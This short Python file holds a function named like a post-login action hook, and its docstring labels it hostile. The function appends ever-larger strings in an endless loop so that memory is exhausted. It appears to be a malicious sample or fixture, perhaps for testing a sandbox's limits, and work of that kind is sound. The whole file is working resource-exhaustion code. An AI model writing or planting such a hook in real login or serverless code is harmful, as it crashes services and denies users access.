"""Hostile: take memory until the machine has none."""


def on_execute_post_login(event, api):
    hoard = []
    while True:
        hoard.append("x" * (500_000 + len(hoard)))
